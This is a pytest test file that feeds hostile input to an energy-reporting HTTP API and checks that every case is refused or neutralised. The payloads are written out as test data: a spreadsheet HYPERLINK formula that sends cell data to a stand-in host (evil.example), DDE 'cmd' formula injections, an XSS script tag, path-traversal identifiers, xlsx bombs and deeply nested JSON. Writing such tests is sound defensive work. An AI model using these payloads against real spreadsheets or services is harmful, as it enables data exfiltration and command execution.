"""Hostile and careless input against the HTTP API: each case answers 4xx problem+json within 2 s, stores nothing
bad, and keeps the good records sent beside the bad ones (issue: no input can hurt the service)."""

from __future__ import annotations

import csv
import io
import json
import time
from typing import Any

import openpyxl
import pytest

from carbon.reports.exports import FORMULA_STARTS
from tests.api.conftest import Service
from tests.hostile.bombs import xlsx_bomb
from tests.timing import without_collector_pauses

PROBLEM = "application/problem+json"
GOOD = {"period": "2024-03", "carrier": "电力", "quantity": 12.5, "unit": "万千瓦时"}
READING = {"meter_id": "M1", "ts": "2025-06-01T00:15:00+08:00", "value": 1.0}
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
UNITS = ["9**9**8", "7**9**7", "1/0", "0**-1", "kWh)", "kWh{", "=kWh", "kWh%", "k" * 64, "(kWh)**(9**9)"]


def assert_problem(response: Any, *statuses: int) -> None:
    assert response.status_code in (statuses or range(400, 500)), response.text[:500]
    assert response.headers["content-type"].startswith(PROBLEM), response.headers["content-type"]
    assert response.json()["detail"]


def timed(call: Any) -> Any:
    """The call's answer, after checking it took under 2 s of this process's CPU (the app runs in it) — wall time
    on two shared cores says more about the neighbours — and under 10 s on the clock (nothing hangs)."""
    with without_collector_pauses():
        started, cpu = time.perf_counter(), time.process_time()
        response = call()
        spent, took = time.process_time() - cpu, time.perf_counter() - started
    assert spent < 2.0
    assert took < 10.0
    return response


FORM_WITHOUT_ENERGY = ("工业企业能源购进、消费与库存\n报告期：2024年3月\n"
                       "能源名称,计量单位,代码,消费量合计,其中：用作原材料\n甲,乙,丙,丁,戊\n,,,,\n???,,1,,\n").encode()


# -- whole requests refused ---------------------------------------------------------------------------------------

REFUSED: list[tuple[str, str, str, str, dict[str, Any]]] = [
    *[(f"convert-unit-{i}", "post", "/v1/convert", "finance",
       {"json": {"quantity": 1, "unit": unit, "carrier": "electricity"}}) for i, unit in enumerate(UNITS)],
    ("convert-ncv-unit", "post", "/v1/convert", "finance",
     {"json": {"quantity": 1, "unit": "t", "carrier": "原煤", "ncv": 20, "ncv_unit": "1/0"}}),
    ("convert-infinite", "post", "/v1/convert", "finance",
     {"content": '{"quantity": 1, "unit": "kWh", "carrier": "electricity", "ncv": Infinity}'}),
    *[(f"month-{m}", "get", f"/v1/enterprises/E1/energy?from={m}", "bureau", {})
      for m in ("2024-13", "0000-00", "2024-02-31", "2024-00", "99999-01")],
    *[(f"consumption-export-month-{m}", "get", f"/v1/enterprises/E1/consumption?from={m}&format=csv", "bureau", {})
      for m in ("2024-13", "0000-00")],
    ("region-target-infinity", "post", "/v1/regions", "admin",
     {"content": '{"code": "R9", "name": "x", "targets": {"gdp_target_current": Infinity}}'}),
    ("region-target-nan", "post", "/v1/regions", "admin",
     {"content": '{"code": "R9", "name": "x", "targets": {"intensity_base_value": NaN}}'}),
    ("statistics-infinity", "put", "/v1/regions/gz-htz/statistics/2024", "bureau",
     {"content": '{"gdp_current": Infinity, "gdp_constant": 1}'}),
    *[(f"enterprise-id-{i}", "post", "/v1/enterprises", "admin",
       {"json": {"id": ident, "name": "x", "region": "gz-htz"}})
      for i, ident in enumerate(["A/B", "..", "<script>alert(1)</script>", "a..b", "=HYPERLINK(1)", " E9", "E" * 65,
                                 "企业", "E9\n"])],
    *[(f"region-code-{i}", "post", "/v1/regions", "admin", {"json": {"code": code, "name": "x"}})
      for i, code in enumerate(["A/B", "..", "<b>x</b>"])],
    ("output-future", "put", "/v1/enterprises/E1/output/2099-01", "enterprise",
     {"json": {"products": [{"product": "cement_clinker", "quantity": 1, "unit": "t"}]}}),
    ("output-formula-product", "put", "/v1/enterprises/E1/output/2024-01", "enterprise",
     {"json": {"products": [{"product": '=HYPERLINK("x")', "quantity": 1, "unit": "t"}]}}),
    ("output-unknown-unit", "put", "/v1/enterprises/E1/output/2024-01", "enterprise",
     {"json": {"products": [{"product": "cement_clinker", "quantity": 1, "unit": "zz"}]}}),
    ("output-evaluated-unit", "put", "/v1/enterprises/E1/output/2024-01", "enterprise",
     {"json": {"products": [{"product": "cement_clinker", "quantity": 1, "unit": "9**9**8"}]}}),
    ("delete-unknown-token", "delete", "/v1/tokens/no-such-token", "admin", {}),
    ("convert-lone-surrogate", "post", "/v1/convert", "finance",
     {"content": b'{"quantity": 1, "unit": "kWh\\ud800", "carrier": "electricity"}'}),
    ("unit-too-long", "post", "/v1/enterprises/E1/consumption", "enterprise",
     {"json": {"records": [GOOD, {**GOOD, "unit": "k" * 65}]}}),
    ("submitted-at-too-long", "post", "/v1/enterprises/E1/consumption", "enterprise",
     {"json": {"records": [GOOD, {**GOOD, "submitted_at": FORMULAS[0]}]}}),
    ("lone-surrogate-body", "post", "/v1/enterprises/E1/consumption", "enterprise",
     {"content": b'{"records": [{"period": "2024-03", "carrier": "\\ud800", "quantity": 1, "unit": "kWh"}]}'}),
    ("invalid-utf8-body", "post", "/v1/enterprises/E1/consumption", "enterprise",
     {"content": b'{"records": [{"period": "2024-03", "carrier": "\xff\xfe", "quantity": 1, "unit": "kWh"}]}'}),
    ("deep-json-body", "post", "/v1/enterprises/E1/consumption", "enterprise",
     {"content": b"[" * 100_000 + b"]" * 100_000}),
    ("two-file-parts", "post", "/v1/enterprises/E1/uploads", "enterprise",
     {"files": [("file", ("a.csv", b"period,carrier,quantity,unit\n2024-01,electricity,1,kWh\n")),
                ("file", ("b.csv", b"period,carrier,quantity,unit\n2024-02,electricity,1,kWh\n"))]}),
    ("upload-deep-json", "post", "/v1/enterprises/E1/uploads", "enterprise",
     {"files": {"file": ("deep.json", b"[" * 100_000 + b"]" * 100_000)}}),
    ("upload-long-line", "post", "/v1/enterprises/E1/uploads", "enterprise",
     {"files": {"file": ("line.csv", b"period,carrier,quantity,unit\n" + b"x" * 900_000)}}),
    ("upload-form205-nothing-recognisable", "post", "/v1/enterprises/E1/uploads", "enterprise",
     {"files": {"file": ("form.csv", FORM_WITHOUT_ENERGY)}}),
]


@pytest.mark.parametrize(("case", "method", "path", "who", "kwargs"), REFUSED, ids=[c[0] for c in REFUSED])
def test_hostile_request_is_refused_as_a_problem(service: Service, case: str, method: str, path: str, who: str,
                                                 kwargs: dict[str, Any]) -> None:
    headers = service.headers(who)
    if "content" in kwargs:
        headers["content-type"] = "application/json"
    response = timed(lambda: getattr(service.client, method)(path, headers=headers, **kwargs))
    assert_problem(response)
    assert service.get("/v1/enterprises/E1/consumption", "bureau").json() == []


@pytest.mark.parametrize("path", ["/v1/enterprises?region=%ED%A0%80", "/v1/enterprises/%ED%A0%80",
                                  "/v1/enterprises/E1/energy?by=%00", "/v1/regions/%2e%2e", "/v1/audit?enterprise=%ff"])
def test_odd_paths_and_queries_never_fail_the_service(service: Service, path: str) -> None:
    response = timed(lambda: service.get(path, "bureau"))
    assert response.status_code < 500, response.text


def test_refused_identifiers_are_not_stored(service: Service) -> None:
    for ident in ("A/B", "..", "<script>x</script>"):
        service.post("/v1/enterprises", "admin", json={"id": ident, "name": "x", "region": "gz-htz"})
    assert {e["id"] for e in service.get("/v1/enterprises", "bureau").json()} == {"E1", "E2"}


def test_a_chunked_body_over_the_limit_gets_413(service: Service) -> None:
    def body():
        for _ in range(30):
            yield b" " * 100_000

    headers = {**service.headers("enterprise"), "content-type": "application/json"}
    response = timed(lambda: service.client.post("/v1/enterprises/E1/consumption", headers=headers, content=body()))
    assert_problem(response, 413)


# -- bad records refused one by one, good records kept -----------------------------------------------------------

BAD_RECORDS: list[tuple[str, dict[str, Any]]] = [
    *[(f"unit-{i}", {**GOOD, "unit": unit}) for i, unit in enumerate(UNITS)],
    *[(f"ncv-unit-{i}", {**GOOD, "carrier": "原煤", "unit": "t", "ncv": 20, "ncv_unit": unit})
      for i, unit in enumerate(UNITS[:6])],
    *[(f"submitted-at-{i}", {**GOOD, "submitted_at": text}) for i, text in enumerate(FORMULAS[1:])],
    ("submitted-at-not-a-date", {**GOOD, "submitted_at": "2024-13-45"}),
    ("quantity-infinite", {**GOOD, "quantity": "Infinity"}),
    ("quantity-huge", {**GOOD, "quantity": "1e308"}),
    ("period-2024-13", {**GOOD, "period": "2024-13"}),
]


@pytest.mark.parametrize(("case", "record"), BAD_RECORDS, ids=[c[0] for c in BAD_RECORDS])
def test_bad_record_is_rejected_and_the_good_one_kept(service: Service, case: str, record: dict[str, Any]) -> None:
    body = {"records": [{**GOOD, "period": "2024-02"}, record]}
    content = json.dumps(body).encode()  # a lone surrogate travels escaped, as a JSON client sends it
    headers = {**service.headers("enterprise"), "content-type": "application/json"}
    response = timed(lambda: service.client.post("/v1/enterprises/E1/consumption", headers=headers, content=content))
    assert response.status_code == 200, response.text
    reply = response.json()
    assert reply["accepted"] == 1 and reply["rejected_count"] == 1
    assert reply["rejected"][0]["index"] == 1
    stored = service.get("/v1/enterprises/E1/consumption", "bureau").json()
    assert [row["统计期"] for row in stored] == ["2024-02"]


BAD_READINGS: list[tuple[str, dict[str, Any]]] = [
    ("value-1e308", {**READING, "value": 1e308}),
    ("value-over-1e12", {**READING, "value": 2e12}),
    ("year-0001", {**READING, "ts": "0001-01-01T00:15:00+08:00"}),
    ("year-1970", {**READING, "ts": "1970-01-01T00:15:00+08:00"}),
    ("unit-power-tower", {**READING, "unit": "9**9**8"}),
    ("unit-division-by-zero", {**READING, "unit": "1/0"}),
    ("meter-id-path", {**READING, "meter_id": "../M1"}),
    ("meter-id-markup", {**READING, "meter_id": "<b>M</b>"}),
]


@pytest.mark.parametrize(("case", "reading"), BAD_READINGS, ids=[c[0] for c in BAD_READINGS])
def test_bad_reading_is_rejected_and_the_good_one_kept(service: Service, case: str, reading: dict[str, Any]) -> None:
    body = {"readings": [READING, {**reading, "ts": reading["ts"].replace("00:15", "00:30")}]}
    response = timed(lambda: service.post("/v1/enterprises/E1/readings", "enterprise", json=body))
    assert response.status_code == 200, response.text
    reply = response.json()
    assert (reply["accepted"], reply["rejected_count"]) == (1, 1), reply


# -- exports: no cell a spreadsheet would evaluate ----------------------------------------------------------------

def test_exports_hold_no_formula(service: Service) -> None:
    """Formulas that got in before the validation existed (or through another door) are neutralised on the way out."""
    records = [{**GOOD, "period": f"2024-0{i + 1}"} for i in range(len(FORMULAS))]
    assert service.post("/v1/enterprises/E1/consumption", "enterprise", json={"records": records}).status_code == 200
    from carbon.store import Store

    store = Store(service.db_path)
    with store.transaction():
        for i, text in enumerate(FORMULAS):
            store.conn.execute("UPDATE consumption SET submitted_at = ?, unit = ? WHERE period = ?",
                               [text, "=kWh" if i % 2 else text, f"2024-0{i + 1}"])
    store.close()
    csv_text = service.get("/v1/enterprises/E1/consumption?format=csv", "bureau").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    book = openpyxl.load_workbook(io.BytesIO(service.get("/v1/enterprises/E1/consumption?format=xlsx",
                                                         "bureau").content))
    kinds = {cell.data_type for row in book.active.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds and "n" in kinds  # text is text, numbers stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- files over the readers' limits -------------------------------------------------------------------------------

@pytest.mark.parametrize(("case", "make"), [
    ("10M-empty-rows", lambda p: xlsx_bomb(p, empty_rows=10_000_000)),
    ("2M-shared-strings", lambda p: xlsx_bomb(p, shared_strings=2_000_000)),
    ("declared-10M-rows", lambda p: xlsx_bomb(p, dimension="A1:E10000000")),
    ("declared-20k-columns", lambda p: xlsx_bomb(p, dimension="A1:ZZZ2")),
], ids=lambda v: v if isinstance(v, str) else "")
def test_spreadsheet_bomb_is_refused_quickly(roomy: Service, tmp_path, case: str, make: Any) -> None:
    path = make(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 100_000
    response = timed(lambda: roomy.post("/v1/enterprises/E1/uploads", "enterprise",
                                        files={"file": ("bomb.xlsx", path.read_bytes())}))
    assert_problem(response, 413, 422)
    assert roomy.get("/v1/enterprises/E1/consumption", "bureau").json() == []


@pytest.mark.parametrize(("case", "content"), [
    ("15MB-single-line", b"enterprise_id,period,carrier,quantity,unit\n" + b"E1," * 5_000_000),
    ("15MB-single-field", b'enterprise_id,period,carrier,quantity,unit\nE1,2024-01,electricity,"' + b"1" * 15_000_000
     + b'",kWh\n'),
    ("wide-header", (",".join(f"c{i}" for i in range(5000)) + "\n").encode()),
], ids=lambda v: v if isinstance(v, str) else "")
def test_big_text_file_is_refused(roomy: Service, case: str, content: bytes) -> None:
    response = timed(lambda: roomy.post("/v1/enterprises/E1/uploads", "enterprise",
                                        files={"file": ("big.csv", content)}))
    assert_problem(response, 413, 422)


def test_a_locked_database_is_503_not_500(service: Service, monkeypatch: pytest.MonkeyPatch) -> None:
    """"database is locked" is the neighbours' doing, not the client's: 503 with Retry-After, never 500."""
    import sqlite3

    def locked(*args: Any, **kwargs: Any) -> Any:
        raise sqlite3.OperationalError("database is locked")

    monkeypatch.setattr("api.routes.enterprises.ingest_records", locked)
    response = service.post("/v1/enterprises/E1/consumption", "enterprise", json={"records": [GOOD]})
    assert_problem(response, 503)
    assert int(response.headers["retry-after"]) > 0
